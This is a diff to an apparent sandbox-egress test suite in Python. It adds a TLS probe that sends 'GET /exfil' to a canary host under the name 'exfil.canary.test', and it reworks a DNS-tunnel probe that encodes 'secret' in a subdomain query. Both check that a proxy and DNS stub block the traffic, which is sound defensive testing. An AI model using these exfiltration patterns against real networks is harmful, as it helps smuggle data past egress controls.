@@ -238,8 +238,32 @@ def net_tcp_canary():
 
 
 @probe
+def net_tcp_canary_443_tls():
+    """443 is the transparent path's: the connection reaches the proxy, and
+    a ClientHello naming anything the policy does not allow is refused."""
+    ctx = ssl.create_default_context(cafile=os.environ.get("SSL_CERT_FILE"))
+    try:
+        with socket.create_connection((CFG["canary"], 443), timeout=15) as s:
+            with ctx.wrap_socket(s, server_hostname="exfil.canary.test") as t:
+                t.sendall(b"GET /exfil HTTP/1.1\r\nHost: exfil.canary.test\r\n\r\n")
+                return parse(recv_all(t))
+    except (ssl.SSLError, OSError) as e:
+        return {"error": str(e)[:200]}
+
+
+@probe
 def net_udp_dns_tunnel():
-    return udp(CFG["canary"], 53, dns_query("c2VjcmV0.exfil.canary.test"))
+    """Redirected to the supervisor's DNS stub, which never looks the name up."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    try:
+        s.sendto(dns_query("c2VjcmV0.exfil.canary.test"), (CFG["canary"], 53))
+        data, peer = s.recvfrom(2048)
+        return {"ok": True, "rcode": data[3] & 0xf, "peer": peer[0]}
+    except OSError as e:
+        return {"ok": False, "errno": ename(e) if e.errno else "timeout"}
+    finally:
+        s.close()
 
 
 @probe
